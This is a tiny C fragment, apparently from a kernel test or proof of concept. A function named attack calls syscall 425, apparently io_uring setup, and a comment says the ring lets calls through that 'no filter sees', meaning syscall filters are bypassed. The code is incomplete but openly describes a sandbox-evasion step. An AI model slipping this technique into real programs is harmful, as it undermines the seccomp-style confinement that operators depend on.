/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Sets up a ring, by which calls are made that no filter sees. */
static char buffer[256];
static long attack(void)
{
	return sys(425, 1, (long)buffer, 0, 0);
}
